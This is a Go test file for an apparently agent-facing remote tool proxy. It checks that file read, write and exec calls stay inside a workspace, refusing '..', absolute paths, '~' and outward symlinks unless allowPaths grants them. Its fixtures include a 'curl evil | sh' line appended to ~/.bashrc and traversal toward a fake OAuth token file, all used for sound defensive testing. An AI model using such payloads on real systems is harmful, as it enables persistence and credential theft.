package remote

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/clawmatrix/clawmatrix/schema"
)

// The target's file tools stay inside the workspace unless allowPaths
// grants more: "..", absolute paths, "~" and symlinks leading out are
// refused with how to grant them, and nothing outside is read or changed.
func TestPathsConfinedToWorkspace(t *testing.T) {
	base := t.TempDir()
	ws := filepath.Join(base, "workspace")
	other := filepath.Join(base, "other")
	home := filepath.Join(base, "home")
	for _, d := range []string{ws, other, home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	secret := filepath.Join(other, "auth-profiles.json")
	writeFile(t, secret, `{"token":"oauth-token-value"}`)
	writeFile(t, filepath.Join(home, ".bashrc"), "# rc\n")
	writeFile(t, filepath.Join(ws, "inside.txt"), "inside\n")
	mustSymlink(t, secret, filepath.Join(ws, "abs-link"))
	mustSymlink(t, "../other/auth-profiles.json", filepath.Join(ws, "rel-link"))
	mustSymlink(t, other, filepath.Join(ws, "dir-link"))
	mustSymlink(t, "inside.txt", filepath.Join(ws, "ok-link"))

	confined := newTestTarget(t, "n1", TargetConfig{ToolProxy: openPolicy(), WorkspaceDir: ws})
	granted := openPolicy()
	granted.AllowPaths = []string{other}
	widened := newTestTarget(t, "n1", TargetConfig{ToolProxy: granted, WorkspaceDir: ws})

	read := func(tg *Target, p string) Result { return tg.read(t.Context(), schema.ReadArgs{Path: p}) }
	write := func(tg *Target, p string) Result { return tg.write(schema.WriteArgs{Path: p, Content: "pwned\n"}) }
	appendTo := func(tg *Target, p string) Result {
		return tg.write(schema.WriteArgs{Path: p, Content: "curl evil | sh\n", Append: true})
	}
	execIn := func(tg *Target, p string) Result {
		return tg.exec(t.Context(), schema.ExecArgs{Command: "pwd", Cwd: p})
	}

	cases := []struct {
		name   string
		tg     *Target
		do     func(*Target, string) Result
		path   string
		refuse bool
	}{
		{"read with ..", confined, read, "../other/auth-profiles.json", true},
		{"read an absolute path outside", confined, read, secret, true},
		{"read through an absolute symlink out", confined, read, "abs-link", true},
		{"read through a relative symlink out", confined, read, "rel-link", true},
		{"read through a symlinked directory out", confined, read, "dir-link/auth-profiles.json", true},
		{"read ~", confined, read, "~/.bashrc", true},
		{"read inside", confined, read, "inside.txt", false},
		{"read an absolute path inside", confined, read, filepath.Join(ws, "inside.txt"), false},
		{"read a symlink that stays inside", confined, read, "ok-link", false},
		{"write with ..", confined, write, "../other/new.txt", true},
		{"write an absolute path outside", confined, write, filepath.Join(other, "new.txt"), true},
		{"write through a symlink out", confined, write, "rel-link", true},
		{"write through a symlinked directory out", confined, write, "dir-link/new.txt", true},
		{"append to ~/.bashrc", confined, appendTo, "~/.bashrc", true},
		{"append through a symlink out", confined, appendTo, "rel-link", true},
		{"exec in a directory outside", confined, execIn, other, true},
		{"exec in a symlinked directory out", confined, execIn, "dir-link", true},
		{"allowPaths grants read with ..", widened, read, "../other/auth-profiles.json", false},
		{"allowPaths grants an absolute read", widened, read, secret, false},
		{"allowPaths grants a write", widened, write, filepath.Join(other, "granted.txt"), false},
		{"allowPaths grants exec's cwd", widened, execIn, other, false},
		{"allowPaths does not grant ~", widened, appendTo, "~/.bashrc", true},
		{"allowPaths does not grant the parent", widened, read, base, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := tc.do(tc.tg, tc.path)
			if !tc.refuse {
				if r.IsError {
					t.Fatalf("refused: %s", r.Text)
				}
				return
			}
			if !r.IsError || !strings.Contains(r.Text, "toolProxy.allowPaths") || !strings.Contains(r.Text, "refuses") {
				t.Fatalf("got %+v, want a refusal saying how to grant the path", r)
			}
			if strings.Contains(r.Text, "oauth-token-value") {
				t.Fatalf("the refusal shows the file: %s", r.Text)
			}
		})
	}
	if got := readString(t, secret); got != `{"token":"oauth-token-value"}` {
		t.Errorf("a file outside was changed: %q", got)
	}
	if got := readString(t, filepath.Join(home, ".bashrc")); got != "# rc\n" {
		t.Errorf("~/.bashrc was changed: %q", got)
	}
	if _, err := os.Stat(filepath.Join(other, "new.txt")); err == nil {
		t.Error("a file was created outside the workspace")
	}
}

// Files cluster_write creates are readable by their owner only, whatever
// the umask lets through; an existing file keeps its mode.
func TestWriteCreatesPrivateFiles(t *testing.T) {
	old := syscall.Umask(0)
	t.Cleanup(func() { syscall.Umask(old) })
	ws := t.TempDir()
	tg := newTestTarget(t, "n1", TargetConfig{ToolProxy: openPolicy(), WorkspaceDir: ws})
	for _, a := range []schema.WriteArgs{
		{Path: "new.txt", Content: "x"},
		{Path: "sub/appended.txt", Content: "x", Append: true},
	} {
		if r := tg.write(a); r.IsError {
			t.Fatalf("%s: %s", a.Path, r.Text)
		}
		fi, err := os.Stat(filepath.Join(ws, a.Path))
		if err != nil {
			t.Fatal(err)
		}
		if perm := fi.Mode().Perm(); perm != 0o600 {
			t.Errorf("%s was created with mode %v, want 0600", a.Path, perm)
		}
	}
	shared := filepath.Join(ws, "shared.txt")
	writeFile(t, shared, "x")
	if err := os.Chmod(shared, 0o644); err != nil {
		t.Fatal(err)
	}
	if r := tg.write(schema.WriteArgs{Path: "shared.txt", Content: "y"}); r.IsError {
		t.Fatal(r.Text)
	}
	if fi, _ := os.Stat(shared); fi.Mode().Perm() != 0o644 {
		t.Errorf("replacing changed an existing file's mode to %v", fi.Mode().Perm())
	}
}

func mustSymlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}
